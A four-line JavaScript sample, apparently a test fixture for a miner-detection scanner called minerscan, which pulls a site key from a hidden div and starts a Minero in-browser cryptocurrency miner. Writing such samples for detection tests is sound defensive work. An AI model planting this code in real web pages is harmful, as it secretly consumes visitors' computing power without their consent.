// Sample written for minerscan's tests: Minero miner created from a hidden div's key.
var holder = document.querySelector('.minero-hidden');
var mineroMiner = new Minero.Anonymous(holder.getAttribute('data-key'));
mineroMiner.start();
